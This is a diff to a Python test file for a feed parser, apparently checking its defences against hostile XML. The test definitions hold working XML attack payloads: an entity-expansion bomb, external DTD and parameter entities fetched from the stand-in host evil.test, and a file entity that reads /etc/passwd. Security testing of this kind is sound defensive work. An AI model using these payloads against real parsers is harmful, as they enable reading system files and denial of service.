@@ -194,7 +194,7 @@ def test_badly_formed_feeds_still_give_their_entries(fault: str) -> None:
 BOMB = '<!DOCTYPE x [<!ENTITY a "needle"><!ENTITY b "' + "&a;" * 50 + '">]>'
 DEFINITIONS = {
     "exponential": f'<?xml version="1.0"?>{BOMB}<rss version="2.0"><channel><title>&b;</title></channel></rss>',
-    "external": '<!DOCTYPE rss SYSTEM "https://evil.test/x.dtd"><rss version="2.0"><channel><title>x</title></channel></rss>',
+    "external": '<!DOCTYPE rss SYSTEM "https://evil.test/x.dtd" []><rss version="2.0"><channel><title>x</title></channel></rss>',
     "file": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]><rss><channel><title>&f;</title></channel></rss>',
     "parameter": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.test/p">%p;]><rss><channel><title>x</title></channel></rss>',
     "lower case": "<!doctype rss []><rss><channel><title>x</title></channel></rss>",
